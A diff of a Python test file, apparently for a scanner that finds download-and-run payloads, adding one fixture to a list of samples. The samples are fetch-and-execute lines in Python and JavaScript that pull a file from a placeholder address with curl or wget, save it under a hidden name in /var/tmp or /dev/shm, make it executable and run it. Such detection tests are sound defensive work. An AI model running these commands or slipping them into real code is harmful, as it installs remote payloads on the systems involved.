@@ -213,6 +213,11 @@ def test_a_download_and_run_after_padding_is_found_on_its_line() -> None:
         'import os\npath = "/var/tmp/" + ".sysd"\n'
         'os.system("curl -s http://192.0.2.1/x -o " + path + " && chmod +x " + path)\n'
         "os.system(path + ' --background')\n",
+        # The command string is an argument followed by another: after squeezing, the path
+        # it runs ends with a comma.
+        'import subprocess\nu = "http://192.0.2.1/" + "k"\nd = "/dev/shm/" + ".x"\n'
+        'subprocess.Popen("wget -q " + u + " -O " + d + "; chmod +x " + d + "; " + d, '
+        "shell=True)\n",
         # JavaScript, as javascript-obfuscator's decoded text spells it: one line, names
         # declared in a list.
         'const {execSync}=require("child_process"),b="/var/tmp/.kx";execSync("curl -fsSL '
